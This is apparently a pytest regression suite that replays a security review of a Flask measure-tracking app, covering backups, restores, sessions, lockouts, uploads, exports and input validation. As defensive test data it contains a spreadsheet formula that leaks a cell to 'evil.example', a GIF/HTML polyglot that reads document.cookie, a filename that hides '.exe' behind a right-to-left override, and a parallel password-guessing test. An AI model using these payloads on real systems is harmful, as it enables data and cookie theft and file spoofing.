"""Issue 12, replayed: each numbered finding of the data-safety and security review, as the tester did it.

Over HTTP (Flask's test client on a real SQLite file) and the ``rectify`` command line (a subprocess on
the same database). The deeper tests of each fix live beside its code (``tests/integration``); this
file keeps the attacks themselves from coming back.
"""
from __future__ import annotations

import datetime as dt
import hashlib
import io
import json
import logging
import os
import re
import stat
import subprocess
import sys
import threading
from pathlib import Path

import openpyxl
import pytest
from sqlalchemy import func, select, update

from tests.factory import docx_file
from tests.conftest import png_bytes
from tests.e2e.test_pages import fire as page_fire, post, signed_in
from tests.e2e.test_pages_as_used import follow
from workflow import planwriter
from workflow.exporting.ledger_xlsx import export_ledger
from workflow.logging import JsonFormatter
from workflow.models import (
    ApiToken, Event, JobRun, LoginFailure, Measure, MeasureEvidence, Outbox, SecurityEvent, User,
)

API = "/api/v1"


def cli(*args: str) -> subprocess.CompletedProcess:
    env = {**os.environ, "PYTHONIOENCODING": "utf-8"}
    env.pop("RECTIFY_DEBUG", None)
    return subprocess.run([sys.executable, "-m", "workflow.cli", *args], capture_output=True, text=True,
                          encoding="utf-8", env=env, timeout=120)


def one_line(proc, code=3) -> str:
    assert proc.returncode == code, proc.stderr
    lines = proc.stderr.strip().splitlines()
    assert len(lines) == 1 and "Traceback" not in proc.stderr and "Usage:" not in proc.stderr, proc.stderr
    return lines[0]


def state(site, m):
    with site.engine.connect() as conn:
        return conn.execute(select(Measure.state, Measure.version).where(Measure.id == m)).one()


def count(site, model, *where) -> int:
    with site.engine.connect() as conn:
        return conn.execute(select(func.count()).select_from(model).where(*where)).scalar_one()


def store_files(site) -> list[Path]:
    root = site.folder / "evidence"
    return sorted(p for p in root.rglob("*") if p.is_file()) if root.exists() else []


def security_events(site, kind):
    with site.engine.connect() as conn:
        return conn.execute(select(SecurityEvent.outcome, SecurityEvent.actor, SecurityEvent.subject, SecurityEvent.ip)
                            .where(SecurityEvent.kind == kind).order_by(SecurityEvent.id)).all()


def multipart(site, m, trigger, user, files, headers=None, **fields):
    data = {**fields, "evidence": [(io.BytesIO(b), name) for name, b in files]}
    return site.api("POST", f"{API}/measures/{m}/triggers/{trigger}", user, data=data,
                    content_type="multipart/form-data", headers=headers)


# --- 1-3: backups that cannot destroy, restores that check first -----------------------------------

def test_1_a_backup_onto_the_live_database_or_a_device_node_is_refused(site):
    live = Path(site.engine.url.database)
    site.engine.dispose()
    before = live.read_bytes()[:16]
    for target, words in ((live, "live database"), (Path("/dev/full"), "not a regular file")):
        assert words in one_line(cli("backup", str(target)))
    assert live.read_bytes()[:16] == before == b"SQLite format 3\x00"
    assert stat.S_ISCHR(os.stat("/dev/full").st_mode)
    assert site.api("GET", f"{API}/me", "owner1").status_code == 200


def test_2_a_restore_of_an_archive_with_a_broken_chain_or_no_schema_replaces_nothing(site, tmp_path):
    m = site.ids["measures"][0]
    site.drive(m, "submitted")
    good = tmp_path / "good.tgz"
    assert cli("backup", str(good)).returncode == 0
    with site.engine.begin() as conn:  # history rewritten, then snapshotted: a consistent manifest, a broken chain
        conn.execute(update(Event).where(Event.measure_id == m, Event.seq == 2).values(actor="owner2"))
    broken = tmp_path / "broken.tgz"
    assert cli("backup", str(broken)).returncode == 0
    with site.engine.begin() as conn:
        conn.execute(update(Event).where(Event.measure_id == m, Event.seq == 2).values(actor="owner1"))
    site.fire(m, "approve", "leader1")
    assert "audit chain is broken" in one_line(cli("restore", str(broken)))
    assert tuple(state(site, m)) == ("verified", 4)
    assert cli("audit", "verify").returncode == 0
    assert cli("restore", str(good)).returncode == 0
    assert tuple(state(site, m)) == ("submitted", 3)


def test_3_a_backup_with_a_missing_or_changed_evidence_file_exits_non_zero_in_one_line(site, tmp_path):
    m = site.ids["measures"][0]
    site.drive(m, "submitted")
    [path] = store_files(site)
    path.write_bytes(png_bytes(999))
    out = tmp_path / "backups"
    out.mkdir()
    line = one_line(cli("backup", str(out / "b.tgz")))
    assert "no longer matches its sha256" in line and not list(out.iterdir())
    path.unlink()
    assert "missing" in one_line(cli("backup", str(out / "b.tgz")))
    assert not list(out.iterdir())


# --- 4: a clock that cannot poison -------------------------------------------------------------------

def test_4_tick_far_in_the_future_or_with_an_empty_now_runs_no_job(site):
    tables = (JobRun, Outbox)
    before = [count(site, t) for t in tables]
    assert "more than a year past the wall clock" in one_line(cli("tick", "--now", "9999-12-31T23:59:59+08:00"))
    assert "--now is empty" in one_line(cli("tick", "--now", ""))
    assert [count(site, t) for t in tables] == before


# --- 5: no orphan files, no damaged file served ----------------------------------------------------------

@pytest.mark.parametrize("meanwhile,status", [("comment", 409), ("submit", 422)])
def test_5_an_upload_whose_command_is_overtaken_leaves_no_orphan_file(site, monkeypatch, meanwhile, status):
    from workflow.commands import uploads

    m = site.ids["measures"][0]
    site.drive(m, "in_progress")
    real = uploads.fire

    def overtaken(measure_id, *args, **kw):  # another person acts between the checks and the transaction
        if meanwhile == "comment":
            real(measure_id, "comment", "office1", comment="同时修改", engine=site.engine, now=site.clock())
        else:
            real(measure_id, "submit", "owner1", comment="已完成", evidence=[site.evidence(5)], engine=site.engine,
                 now=site.clock())
        return real(measure_id, *args, **kw)

    monkeypatch.setattr(uploads, "fire", overtaken)
    headers = {"If-Match": '"2"'} if meanwhile == "comment" else {}  # a lost race (409), or a refusal (422)
    r = multipart(site, m, "progress_update", "owner1", [("photo.png", png_bytes(77))], headers=headers,
                  comment="本周进展")
    assert r.status_code == status, r.get_json()
    with site.engine.connect() as conn:
        linked = set(conn.execute(select(MeasureEvidence.sha256)).scalars())
    assert {p.name for p in store_files(site)} == linked  # no file that nothing refers to
    assert hashlib.sha256(png_bytes(77)).hexdigest() not in linked


def test_5_a_file_whose_bytes_no_longer_match_its_hash_is_not_served(site):
    m = site.ids["measures"][0]
    site.drive(m, "submitted")
    [path] = store_files(site)
    sha = path.name
    path.write_bytes(b"<html>replaced</html>")
    r = site.api("GET", f"{API}/evidence/{sha}", "owner1")
    assert (r.status_code, r.get_json()["code"]) == (500, "evidence_damaged")
    page = signed_in(site, "owner1").get(f"/evidence/{sha}")
    assert page.status_code == 500 and b"replaced" not in page.data and b"Traceback" not in page.data
    assert [e.outcome for e in security_events(site, "evidence_damaged")] == ["refused", "refused"]


# --- 6-8: the lifecycle's rules --------------------------------------------------------------------------

def test_6_no_evidence_can_be_added_to_a_verified_or_closed_measure(site):
    m = site.ids["measures"][0]
    site.drive(m, "verified")
    for user in ("owner1", "insp1", "super1"):
        r = multipart(site, m, "comment", user, [("late.png", png_bytes(8))], comment="补充材料")
        assert (r.status_code, r.get_json()["code"]) == (422, "evidence_not_accepted"), user
    assert len(store_files(site)) == 1


def test_7_one_person_cannot_approve_and_then_sign_off_and_reassign_refuses_system(site):
    m = site.ids["measures"][0]
    with site.engine.begin() as conn:
        planwriter.user(conn, "leader1", "分管领导甲", ["office"])  # leader1 holds the office's role too
    site.drive(m, "submitted")
    assert site.api("POST", f"{API}/measures/{m}/triggers/approve", "leader1", json={}).status_code == 200
    r = site.api("POST", f"{API}/measures/{m}/triggers/sign_off", "leader1", json={})
    assert (r.status_code, r.get_json()["code"]) == (422, "four_eyes")
    other = site.ids["measures"][1]
    for target in ("system", "leader2"):
        r = site.api("POST", f"{API}/measures/{other}/triggers/reassign", "office1", json={"owner": target})
        assert (r.status_code, r.get_json()["code"]) == (422, "invalid_input"), target


@pytest.mark.parametrize("day", ["9999-12-31", "2026-11-01"])
def test_8_an_extension_to_any_date_is_refused(site, day):
    m = site.ids["measures"][0]
    site.drive(m, "in_progress")
    r = site.api("POST", f"{API}/measures/{m}/triggers/request_extension", "owner1",
                 json={"reason": "工期受阻", "new_deadline": day})
    assert (r.status_code, r.get_json()["code"]) == (422, "invalid_input")


# --- 9-12: accounts and sessions -------------------------------------------------------------------------

def _admin_sets_password(site, admin, username, password):
    return post(admin, f"/admin/people/{username}", {"name": "水利局科员", "roles": ["owner"], "unit": "水利局",
                                                     "active": "1", "password": password},
                csrf_from=f"/admin/people/{username}")


def test_9_an_admin_password_reset_ends_the_persons_sessions_and_tokens(site):
    victim = signed_in(site, "owner2")
    assert victim.get("/todo").status_code == 200 and site.api("GET", f"{API}/me", "owner2").status_code == 200
    admin = signed_in(site, "admin1")
    assert _admin_sets_password(site, admin, "owner2", "new-Passphrase-2").status_code == 303
    assert victim.get("/todo").status_code == 302  # back to sign-in
    assert site.api("GET", f"{API}/me", "owner2").status_code == 401
    assert site.api("GET", f"{API}/me", "owner1").status_code == 200  # nobody else's
    assert site.login(site.app.test_client(), "owner2", "new-Passphrase-2").status_code == 302


def test_9_the_self_service_change_ends_the_other_sessions_and_keeps_this_browser(site):
    here, there = signed_in(site, "owner1"), signed_in(site, "owner1")
    r = post(here, "/account/password", {"current": "pw-owner1", "new": "a-better-Phrase", "confirm": "a-better-Phrase"},
             csrf_from="/account/password")
    assert r.status_code == 302
    assert here.get("/todo").status_code == 200 and there.get("/todo").status_code == 302
    assert site.api("GET", f"{API}/me", "owner1").status_code == 401


def test_9_tokens_expire(site):
    assert site.api("GET", f"{API}/me", "leader1").status_code == 200
    with site.engine.connect() as conn:
        expires = conn.execute(select(ApiToken.expires_at).join(User, User.id == ApiToken.user_id)
                               .where(User.username == "leader1")).scalar_one()
    site.clock.t = expires - dt.timedelta(seconds=1)
    assert site.api("GET", f"{API}/me", "leader1").status_code == 200
    site.clock.t = expires
    assert site.api("GET", f"{API}/me", "leader1").status_code == 401


@pytest.mark.parametrize("username,password,why", [
    ("owner9", "12345678", "密码至少需要 10 个字符"), ("owner9", "password", "密码至少需要 10 个字符"),
    ("owner9", "1234567890", "最常见的密码"), ("owner9", "Password123", "最常见的密码"),
    ("inspector42", "INSPECTOR42", "密码不能与用户名相同"),
])
def test_10_weak_passwords_are_refused_naming_why(site, username, password, why):
    admin = signed_in(site, "admin1")
    r = post(admin, "/admin/people", {"username": username, "name": "测试县教育局责任人", "password": password,
                                      "roles": ["owner"]}, csrf_from="/admin/people")
    assert why in follow(admin, r)  # sent back to the form, which says why
    if why == "密码不能与用户名相同":
        return
    me = signed_in(site, "owner1")
    r = post(me, "/account/password", {"current": "pw-owner1", "new": password, "confirm": password},
             csrf_from="/account/password")
    assert r.status_code == 422 and "role=\"alert\"" in r.get_data(as_text=True)
    assert site.login(site.app.test_client(), "owner1").status_code == 302  # unchanged


def test_10_every_signed_in_person_has_the_change_page(site):
    for user in ("owner1", "leader1", "office1", "super1", "insp1", "admin1"):
        page = signed_in(site, user).get("/account/password")
        assert page.status_code == 200 and 'name="new"' in page.get_data(as_text=True), user
    assert site.app.test_client().get("/account/password").status_code == 302


def test_11_sign_ins_lockouts_csrf_failures_refusals_and_changes_are_logged_with_ip(site, caplog):
    caplog.set_level(logging.INFO, logger="rectify.security")
    c = site.app.test_client()
    c.environ_base["REMOTE_ADDR"] = "203.0.113.44"
    site.login(c, "owner1", "wrong")
    site.login(c, "owner1")
    assert c.post("/logout").status_code == 400  # no CSRF token
    assert c.get("/review").status_code == 403  # not a leader
    admin = signed_in(site, "admin1")
    post(admin, "/admin/people/owner2", {"name": "水利局科员", "roles": ["owner", "leader"], "unit": "水利局",
                                         "active": "1"}, csrf_from="/admin/people/owner2")
    assert security_events(site, "login")[:2] == [("failure", "owner1", None, "203.0.113.44"),
                                                  ("success", "owner1", None, "203.0.113.44")]
    assert security_events(site, "csrf_failed") == [("refused", "owner1", None, "203.0.113.44")]
    assert security_events(site, "not_permitted") == [("refused", "owner1", None, "203.0.113.44")]
    assert security_events(site, "role_change")[-1][:3] == ("success", "admin1", "owner2")
    lines = [json.loads(JsonFormatter().format(r)) for r in caplog.records if r.name == "rectify.security"]
    assert {(x["security_event"], x["outcome"]) for x in lines} >= {("login", "failure"), ("login", "success"),
                                                                 ("csrf_failed", "refused")}
    assert all("pw-owner1" not in json.dumps(x) for x in lines)
    page = admin.get("/admin/security?kind=login").get_data(as_text=True)
    assert "203.0.113.44" in page and 'data-kind="login"' in page and 'data-kind="role_change"' not in page
    assert signed_in(site, "office1").get("/admin/security").status_code == 403


def test_12_forty_parallel_wrong_passwords_check_exactly_the_limit_and_cannot_lock_the_admin_out(site):
    clients = []
    for _ in range(40):
        c = site.app.test_client()
        c.environ_base["REMOTE_ADDR"] = "198.51.100.66"
        clients.append((c, site.csrf(c)))
    go, statuses = threading.Barrier(40), []

    def guess(c, token):
        go.wait()
        statuses.append(c.post("/login", data={"username": "admin1", "password": "guess", "csrf_token": token})
                        .status_code)

    threads = [threading.Thread(target=guess, args=pair) for pair in clients]
    for t in threads:
        t.start()
    for t in threads:
        t.join()
    assert sorted(statuses) == [200] * 5 + [429] * 35
    assert len(security_events(site, "login")) == 5  # five passwords checked, not thirty
    assert len(security_events(site, "lockout")) == 35
    elsewhere = site.app.test_client()
    elsewhere.environ_base["REMOTE_ADDR"] = "192.0.2.1"
    assert site.login(elsewhere, "admin1").status_code == 302
    assert count(site, LoginFailure, LoginFailure.key == "pair:admin1|198.51.100.66") == 5


# --- 13-16: leaks, uploads, exports, errors ---------------------------------------------------------------

def test_13_bulk_approval_of_ids_outside_the_leaders_scope_answers_like_missing_ones(site):
    m = site.ids["measures"][0]
    site.drive(m, "submitted")
    other = signed_in(site, "leader2")
    hidden = follow(other, post(other, "/review/bulk", {"pick": [f"{m}:7"]}, csrf_from="/review"))
    missing = follow(other, post(other, "/review/bulk", {"pick": ["999999:7"]}, csrf_from="/review"))
    def clean(body, mid):  # the page's main part, the id itself left out
        main = body.split("<main", 1)[1].split("</main>", 1)[0]
        return re.sub(rf"(?<=[\"/#]){mid}(?=[\"<])", "ID", main)

    assert clean(hidden, m) == clean(missing, 999999)
    assert "第 3 版" not in hidden and "没有找到您要的内容" in hidden
    assert tuple(state(site, m)) == ("submitted", 3)


@pytest.mark.parametrize("name,data,kept,mime", [
    ("evil.html", b"GIF89a\x01\x00\x01\x00\x00\x00\x00;<script>alert(document.cookie)</script>", "evil.gif",
     "image/gif"),
    ("setup.exe", None, "setup.docx", "application/vnd.openxmlformats-officedocument.wordprocessingml.document"),
])
def test_14_an_upload_is_kept_and_served_under_the_extension_of_its_type_and_never_cached(site, name, data, kept, mime):
    m = site.ids["measures"][0]
    site.drive(m, "in_progress")
    r = multipart(site, m, "progress_update", "owner1", [(name, data if data is not None else docx_file("整改佐证"))],
                  comment="本周进展")
    assert r.status_code == 200, r.get_json()
    [e] = site.api("GET", f"{API}/measures/{m}", "owner1").get_json()["evidence"]
    assert (e["name"], e["mime"]) == (kept, mime)
    for response in (site.api("GET", f"{API}/evidence/{e['sha256']}", "owner1"),
                     signed_in(site, "owner1").get(f"/evidence/{e['sha256']}")):
        assert response.status_code == 200 and response.mimetype == mime
        assert kept in response.headers["Content-Disposition"] and name not in response.headers["Content-Disposition"]
        assert response.headers["Cache-Control"] == "private, no-store"
        assert "sandbox" in response.headers["Content-Security-Policy"]
    with site.engine.begin() as conn:  # a name kept before the fix is served under the right extension too
        conn.execute(update(MeasureEvidence).values(name="old.html"))
    again = site.api("GET", f"{API}/evidence/{e['sha256']}", "owner1")
    assert f"old{Path(kept).suffix}" in again.headers["Content-Disposition"]


def test_15_account_text_that_starts_like_a_formula_is_exported_as_text(site, tmp_path):
    typed = ['=HYPERLINK("http://evil.example/?leak="&A1,"click")', "+1+2", "-2+3", "@SUM(A1:A2)"]
    for m, text in zip(site.ids["measures"], typed, strict=False):
        site.drive(m, "in_progress")
        site.fire(m, "submit", "owner1", comment=text, evidence=[site.evidence(m)])
    out = tmp_path / "ledger.xlsx"
    export_ledger(out, now=site.clock(), engine=site.engine)
    cells = {c.value: c for ws in openpyxl.load_workbook(out).worksheets for row in ws.iter_rows() for c in row}
    for text in typed:
        assert text in cells and cells[text].data_type == "s", text


def test_16_command_line_mistakes_are_one_line_and_exit_3(site):
    m = str(site.ids["measures"][0])
    for args in (("fire", m, "no_such_trigger", "--as", "owner1"), ("fire", "abc", "start", "--as", "owner1"),
                 ("fire", "99999999999999999999", "start", "--as", "owner1"),
                 ("fire", m, "comment", "--as", "owner1", "--comment", "\udcff"),
                 ("fire", m, "start", "--as", "owner1", "--comment", "x" * 120_000),
                 ("fire", m, "comment", "--as", "owner1", "--comment", "\u200b\u200b"),
                 ("fire", m, "comment", "--as", "owner1", "--comment", "报告\u202egnp.exe"),
                 ("export", "/no/such/folder/ledger.xlsx")):
        one_line(cli(*args))
    assert count(site, Event) == len(site.ids["measures"])


def test_16_the_web_answers_bad_input_as_bad_input_never_a_500(site):
    m = site.ids["measures"][0]
    deep = "[" * 5000 + "]" * 5000
    r = site.api("POST", f"{API}/measures/{m}/triggers/comment", "owner1", data='{"comment": ' + deep + "}",
                 content_type="application/json")
    assert r.status_code in (400, 422)
    office = signed_in(site, "office1")
    for path in ("/ledger?page=99999999999999999999", "/ledger?plan=99999999999999999999",
                 "/measures/99999999999999999999"):
        assert office.get(path).status_code in (200, 404), path
    for text, why in (("x" * 120_000, "最多 20000 个字"), ("\u200b", "没有可见的文字"),
                      ("已完成\u202e", "不能含有改变文字方向的字符（U+202E）")):
        r = site.api("POST", f"{API}/measures/{m}/triggers/comment", "owner1", json={"comment": text})
        assert r.status_code == 422 and r.get_json()["code"] in ("invalid_input", "validation_error")
        owner = signed_in(site, "owner1")
        assert why in follow(owner, page_fire(owner, m, "comment", 1, comment=text))
    assert count(site, Event) == len(site.ids["measures"])


def test_16_an_evidence_store_that_cannot_be_written_is_a_clear_503_without_a_traceback(site, monkeypatch, tmp_path):
    m = site.ids["measures"][0]
    site.drive(m, "in_progress")
    blocker = tmp_path / "blocked"
    blocker.write_text("not a folder")
    monkeypatch.setenv("RECTIFY_EVIDENCE_DIR", str(blocker / "evidence"))
    owner = signed_in(site, "owner1")
    r = page_fire(owner, m, "submit", 2, comment="已完成", files=[("photo.png", png_bytes(3))])
    body = r.get_data(as_text=True)
    assert r.status_code == 503 and "佐证材料存储暂时无法写入" in body and "Traceback" not in body
    api = multipart(site, m, "submit", "owner1", [("photo.png", png_bytes(3))], comment="已完成")
    assert (api.status_code, api.get_json()["code"]) == (503, "evidence_store_unavailable")
    assert tuple(state(site, m)) == ("in_progress", 2)
    r = site.api("POST", f"{API}/measures/{m}/triggers/comment", "owner1", json={"comment": "没有附件也能记录"})
    assert r.status_code == 200  # the rest of the app goes on
